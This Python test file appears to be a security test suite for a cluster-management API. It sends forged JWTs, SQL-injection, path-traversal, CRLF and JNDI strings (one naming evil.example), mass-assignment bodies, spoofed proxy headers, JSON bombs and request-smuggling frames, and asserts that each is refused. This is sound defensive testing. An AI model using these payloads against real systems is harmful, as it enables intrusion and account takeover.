"""The attack list: each is refused with the right status, and none makes the server stumble."""

from __future__ import annotations

import base64
import json
import re
import time
from collections.abc import Iterator
from functools import partial
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

import api.app
from api.layers.deadline import Deadline
from engine.domain.statuses import Role
from engine.services import passwords, tokens
from tests.contract.harness import ADMIN, PASSWORD, Api, cluster_body, raw, serving, settings

CLUSTERS = "/api/v1/clusters"
ME = "/api/v1/auth/me"
LOGIN = "/api/v1/auth/login"
NOBODY = "550e8400-e29b-41d4-a716-446655440000"

#: What ends up in paths, names and filters.
METACHARACTERS = (
    "' OR '1'='1",
    "'; DROP TABLE cluster; --",
    '" OR ""="',
    "%' AND 1=CAST((SELECT version()) AS int)--",
    "\\",
    "%",
    "../../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "x\r\nSet-Cookie: stolen=1",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\x00",
    "\ud7ff\ufffe",
    "A" * 5000,
)


def unsafe(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).rstrip(b"=").decode()


async def statuses(client: httpx.AsyncClient, given: list[str]) -> dict[int, int]:
    """How each bearer token is answered, counted by status."""
    found: dict[int, int] = {}
    for token in given:
        answer = await client.get(ME, headers={"Authorization": f"Bearer {token}"})
        found[answer.status_code] = found.get(answer.status_code, 0) + 1
    return found


async def test_forged_tokens(api: Api) -> None:
    granted = await api.login()
    good = granted["access_token"]
    claims = jwt.decode(good, options={"verify_signature": False})
    head, body, signature = good.split(".")
    key = tokens._key(api.settings.secret_key)
    own = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    none = unsafe('{"alg":"none","typ":"JWT"}')

    def signed(algorithm: str = "HS256", secret: Any = key, headers: Any = None, **changes: Any) -> str:
        payload = {name: value for name, value in (claims | changes).items() if value is not None}
        return jwt.encode(payload, secret, algorithm=algorithm, headers=headers)

    forged = [
        f"{none}.{body}.",
        f"{none}.{body}",
        f"{unsafe('{"alg":"NoNe"}')}.{body}.{signature}",
        f"{head}.{body}.",
        f"{head}.{body}.{signature[::-1]}",
        f"{head}.{unsafe(json.dumps(claims | {'sub': NOBODY}))}.{signature}",
        signed(secret=b"another secret of the right length"),
        signed(secret=b"dev-secret-key-dev-secret-key-dev"),
        signed(secret=api.settings.secret_key.encode().ljust(32)),
        signed("HS512", secret=key + key),
        signed("RS256", secret=own),
        signed("RS256", secret=own, headers={"kid": "../../../../dev/null"}),
        signed("RS256", secret=own, headers={"jku": "https://evil.example/jwks.json"}),
        signed(headers={"crit": ["exp"]}),
        signed(iss="https://evil.example"),
        signed(aud="another-service"),
        signed(exp=int(time.time()) - 3600),
        signed(exp=None),
        signed(sub=None),
        signed(sub="admin"),
        signed(sub=NOBODY),
        signed(sid=NOBODY),
        signed(typ="refresh"),
        signed(typ=None),
        granted["refresh_token"],
        "null",
        "a.b.c",
        "." * 3000,
        f"{good}~",
    ]

    assert await statuses(api.anonymous(), forged) == {401: len(forged)}
    assert await statuses(api.anonymous(), [good, signed()]) == {200: 2}


async def test_tokens_in_places_where_none_belongs(any_api: Api) -> None:
    granted = await any_api.login()
    token, client = granted["access_token"], any_api.anonymous()
    wrong: list[dict[str, Any]] = [
        {"params": {"access_token": token}},
        {"headers": {"X-Access-Token": token}},
        {"headers": {"Authorization": f"Basic {token}"}},
        {"headers": {"Authorization": token}},
        {"headers": {"Proxy-Authorization": f"Bearer {token}"}},
        {"headers": {"Cookie": f"access_token={token}"}},
    ]
    for options in wrong:
        assert (await client.get(ME, **options)).status_code == 401, options
    refresh = await client.post("/api/v1/auth/refresh", json={"refresh_token": token})
    assert refresh.status_code == 401


async def test_a_replayed_refresh_token_ends_the_whole_family(any_api: Api) -> None:
    client = any_api.anonymous()
    stolen = (await any_api.login())["refresh_token"]
    renewed = (await client.post("/api/v1/auth/refresh", json={"refresh_token": stolen})).json()

    replayed = await client.post("/api/v1/auth/refresh", json={"refresh_token": stolen})
    theirs = await client.post("/api/v1/auth/refresh", json={"refresh_token": renewed["refresh_token"]})
    access = await client.get(ME, headers={"Authorization": f"Bearer {renewed['access_token']}"})

    assert (replayed.status_code, theirs.status_code, access.status_code) == (401, 401, 401)


async def test_who_has_an_account_cannot_be_told_from_text_or_work(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Time is the number of hashes computed: one for everybody, whatever is known of them."""
    await api.account(Role.VIEWER, "vera@example.local")
    admin = await api.admin()
    users = (await admin.get("/api/v1/users", params={"search": "vera"})).json()["data"]
    computed = 0
    hasher = passwords._hasher

    class Counting:
        def verify(self, *arguments: Any) -> bool:
            nonlocal computed
            computed += 1
            return hasher.verify(*arguments)

        def __getattr__(self, name: str) -> Any:
            return getattr(hasher, name)

    monkeypatch.setattr(passwords, "_hasher", Counting())
    client, told, work = api.anonymous(), set(), []

    async def attempt(name: str) -> None:
        nonlocal computed
        computed = 0
        answer = await client.post(LOGIN, data={"username": name, "password": "Wrong-password-1"})
        told.add((answer.status_code, answer.json()["detail"]))
        work.append(computed)

    for name in (ADMIN, "nobody@example.local", "no address", "'; --", "vera@example.local"):
        await attempt(name)
    await admin.put(f"/api/v1/users/{users[0]['id']}", json={"enabled": False})
    for _ in range(8):  # and so often that the account rests
        await attempt("vera@example.local")

    assert len(told) == 1
    assert next(iter(told))[0] == 401
    assert set(work) == {1}


async def test_mass_assignment(any_api: Api) -> None:
    admin = await any_api.admin()
    vera = {"email": "vera@example.local", "password": PASSWORD}
    attempts = [
        ("POST", CLUSTERS, cluster_body(status="running")),
        ("POST", CLUSTERS, cluster_body(created_by=NOBODY)),
        ("POST", CLUSTERS, cluster_body(tenant_id=NOBODY)),
        ("POST", CLUSTERS, cluster_body(id=NOBODY)),
        ("POST", CLUSTERS, cluster_body() | {"__proto__": {"role": "admin"}}),
        ("POST", "/api/v1/users", vera | {"roles": ["admin"]}),
        ("POST", "/api/v1/users", vera | {"id": NOBODY}),
        ("POST", "/api/v1/users", vera | {"password_hash": "x"}),
        ("PUT", f"/api/v1/users/{NOBODY}", {"failed_logins": 0}),
        ("POST", LOGIN, {"username": ADMIN, "password": PASSWORD, "role": "admin"}),
        ("POST", "/api/v1/auth/refresh", {"refresh_token": "x", "expires_in": 10**9}),
        ("POST", "/api/v1/service-tokens", {"name": "a", "permissions": ["job:read"], "token": "kyt_x"}),
    ]
    for method, path, body in attempts:
        answer = await admin.request(method, path, json=body)
        assert answer.status_code == 422, (method, path, answer.text)
        assert "not a known member" in answer.text
    assert (await admin.get(CLUSTERS)).json()["total"] == 0


async def test_names_that_would_lead_elsewhere(any_api: Api) -> None:
    admin = await any_api.admin()
    for name in METACHARACTERS:
        bodies = [
            (CLUSTERS, cluster_body(name)),
            ("/api/v1/users", {"email": name, "password": "Right-horse-1"}),
            ("/api/v1/service-tokens", {"name": name, "permissions": ["cluster:read"]}),
        ]
        nodes = cluster_body()
        nodes["nodes"][0]["name"] = name
        address = cluster_body()
        address["nodes"][0]["ip_address"] = name
        user = cluster_body()
        user["ssh_config"]["username"] = name
        bodies += [(CLUSTERS, wrong) for wrong in (nodes, address, user)]
        for path, body in bodies:
            answer = await admin.post(path, json=body)
            assert answer.status_code in {400, 422}, (path, name, answer.text)
    assert (await admin.get(CLUSTERS)).json()["total"] == 0


async def test_metacharacters_in_every_path_and_filter(api: Api) -> None:
    """The document names them all; nothing is found, nothing stumbles, no header is written by the caller."""
    admin = await api.admin()
    await admin.post(CLUSTERS, json=cluster_body())
    document = (await admin.get("/openapi.json")).json()
    wrong = []
    for method, path, parameter in _parameters(document):
        for text in METACHARACTERS[::2]:
            by_path = parameter["in"] == "path"
            url = path.replace(f"{{{parameter['name']}}}", _quoted(text)) if by_path else path
            url = re.sub(r"{[^}]*}", NOBODY, url)
            query = {} if by_path else {parameter["name"]: text}
            answer = await admin.request(method, url, params=query)
            status = answer.status_code
            if status >= 500 or "set-cookie" in answer.headers or (by_path and status < 400):
                wrong.append((method, path, parameter["name"], text[:40], status))

    assert not wrong
    assert (await admin.get(CLUSTERS)).json()["total"] == 1


def _parameters(document: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Path and query parameters of what reads or deletes."""
    for path, operations in document["paths"].items():
        for method in {"get", "delete"} & set(operations):
            for parameter in operations[method].get("parameters", []):
                if parameter["in"] in {"path", "query"}:
                    yield method, path, parameter


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


async def test_forged_identities_and_addresses(any_api: Api) -> None:
    """Headers of gateways and proxies are believed from named networks only, and none is named."""
    forged = {
        "X-Amz-Account-Id": "123456789012",
        "X-Amz-Caller-Arn": "arn:aws:iam::123456789012:root",
        "X-Amz-Security-Token": "x",
        "X-Amzn-Oidc-Data": "x",
        "X-Forwarded-For": "127.0.0.1, 10.0.0.1",
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "https",
        "Forwarded": "for=127.0.0.1;host=evil.example",
        "X-Real-IP": "203.0.113.9",
        "X-Client-IP": "203.0.113.9",
        "X-Forwarded-User": ADMIN,
        "X-Remote-User": ADMIN,
        "Remote-User": ADMIN,
        "X-Auth-Request-Email": ADMIN,
        "X-Original-URL": "/health",
        "X-Rewrite-URL": "/health",
        "X-Tenant-ID": "default",
    }
    client = any_api.anonymous(**forged)
    assert (await client.get(CLUSTERS)).status_code == 401
    assert (await client.post(CLUSTERS, json=cluster_body())).status_code == 401
    made = await (await any_api.admin()).post(CLUSTERS, json=cluster_body(), headers=forged)
    assert "evil.example" not in f"{made.text}{made.headers}"
    assert "strict-transport-security" not in made.headers

    entries = (await (await any_api.admin()).get("/api/v1/audit-logs")).json()["data"]
    assert {entry["address"] for entry in entries if entry["action"] == "cluster:create"} == {"127.0.0.1"}


async def test_the_method_is_the_one_of_the_request_line(any_api: Api) -> None:
    admin = await any_api.admin()
    await admin.post(CLUSTERS, json=cluster_body())
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        answer = await admin.post(f"{CLUSTERS}/yard-1", headers={name: "DELETE"})
        assert answer.status_code == 405, name
        assert (await admin.get(f"{CLUSTERS}/yard-1", headers={name: "DELETE"})).status_code == 200
    assert (await admin.get(CLUSTERS, params={"_method": "DELETE"})).status_code == 422
    for method in ("TRACE", "PROPFIND", "PURGE"):
        assert (await admin.request(method, CLUSTERS)).status_code in {400, 404, 405, 501}, method
    assert (await admin.get(f"{CLUSTERS}/yard-1")).json()["status"] != "deleted"


async def test_bodies_that_are_bombs(api: Api) -> None:
    admin = await api.admin()
    deep = b"[" * 100_000 + b"]" * 100_000
    cases: list[tuple[bytes, dict[str, str], int]] = [
        (deep, {}, 400),
        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, {}, 400),
        (b'{"name": ' + b"[" * 900 + b"]" * 900 + b"}", {}, 422),
        (b'{"name": "a", "name": "b"}', {}, 400),
        (b'{"topology": {"ha": true, "ha": false}}', {}, 400),
        (b'{"name": 1e999999}', {}, 400),
        (b'{"name": ' + b"9" * 100_000 + b"}", {}, 400),
        (b'{"name": NaN}', {}, 400),
        (b'{"name": "\xff\xfe"}', {}, 400),
        (b'\xef\xbb\xbf{"name": "a"}', {}, 400),
        (b"{}" * 2, {}, 400),
        (b"<a/>", {"Content-Type": "application/xml"}, 415),
        (b"name=a", {"Content-Type": "application/x-www-form-urlencoded"}, 415),
        (b"{}", {"Content-Type": "text/plain"}, 415),
        (b"{}", {"Content-Type": "application/json; charset=utf-16"}, 422),
        (b"{}", {"Content-Encoding": "gzip"}, 415),
        (b"--x\r\n", {"Content-Type": "multipart/form-data; boundary=x"}, 415),
        (b" " * (4 * 1024 * 1024 + 1), {}, 413),
    ]
    for body, headers, status in cases:
        answer = await admin.post(
            CLUSTERS, content=body, headers={"Content-Type": "application/json"} | headers
        )
        assert answer.status_code == status, (body[:40], answer.status_code, answer.text[:200])
        assert answer.headers["content-type"] == "application/problem+json"
    for body, kind in (
        (deep, "application/json"),
        (b"--x\r\n", "multipart/form-data; boundary=x"),
        (b"%", "x/y"),
    ):
        answer = await admin.post(LOGIN, content=body, headers={"Content-Type": kind})
        assert answer.status_code in {400, 415, 422}, kind
    assert (await admin.get("/health")).status_code == 200


async def test_requests_that_no_client_sends(api: Api) -> None:
    token = (await api.login())["access_token"]
    head = b"Host: localhost\r\nConnection: close\r\n"
    auth = f"Authorization: Bearer {token}\r\n".encode()
    many = b"".join(b"X-%d: 1\r\n" % number for number in range(150))
    cases = [
        b"GET /api/v1/auth/me HTTP/1.1\r\n" + head + auth + auth + b"\r\n",
        b"GET /api/v1/auth/me HTTP/1.1\r\n" + head + b"Host: evil.example\r\n" + auth + b"\r\n",
        b"GET /api/v1/auth/me HTTP/1.1\r\n" + head + many + auth + b"\r\n",
        b"GET /api/v1/auth/me HTTP/1.1\r\n" + head + b"X-Big: " + b"a" * 100_000 + b"\r\n" + auth + b"\r\n",
        b"GET /api/v1/auth/me HTTP/1.1\r\n" + head + b"X-A: 1\rX-B: 2\r\n" + auth + b"\r\n",
        b"GET /api/v1/auth/me\r\nX-Evil: 1 HTTP/1.1\r\n" + head + auth + b"\r\n",
        b"GET /%00 HTTP/1.1\r\n" + head + auth + b"\r\n",
        b"GET /api/v1/clusters/%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\n" + head + auth + b"\r\n",
        b"GET /" + b"a" * 60_000 + b" HTTP/1.1\r\n" + head + auth + b"\r\n",
        b"GET /api/v1/../../etc/passwd HTTP/1.1\r\n" + head + auth + b"\r\n",
        b"GET http://evil.example/api/v1/nix HTTP/1.1\r\n" + head + auth + b"\r\n",
        b"POST /api/v1/clusters HTTP/1.1\r\n"
        + head
        + auth
        + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\n{}",
        b"POST /api/v1/clusters HTTP/1.1\r\n" + head + auth + b"Content-Length: -1\r\n\r\n{}",
        b"POST /api/v1/clusters HTTP/1.1\r\n" + head + auth + b"Transfer-Encoding: chunked\r\n\r\nZZ\r\n",
        b"GARBAGE\r\n\r\n",
    ]
    for request in cases:
        status = await raw(api, request)
        assert status == 0 or 400 <= status < 500, (request[:60], status)
    assert await raw(api, b"GET /api/v1/auth/me HTTP/1.1\r\n" + head + auth + b"\r\n") == 200


async def test_bodies_that_never_end(database_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(api.app, "Deadline", partial(Deadline, seconds=0.5))
    async with serving(settings(database_url)) as running:
        token = (await running.login())["access_token"]
        head = f"Host: localhost\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\n"
        for framing in ("Content-Length: 1000\r\n\r\n{", "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n"):
            for path in (CLUSTERS, LOGIN):
                request = f"POST {path} HTTP/1.1\r\n{head}{framing}".encode()
                assert await raw(running, request) == 408, (path, framing)
        entries = (await (await running.admin()).get("/api/v1/audit-logs?status=refused")).json()["data"]

    assert [entry["details"]["status_code"] for entry in entries if entry["action"] == "cluster:create"] == [
        408,
        408,
    ]


async def test_other_sites_are_not_let_in(api: Api) -> None:
    preflight = await api.anonymous().options(
        CLUSTERS, headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    )

    assert not [name for name in preflight.headers if name.startswith("access-control-")]
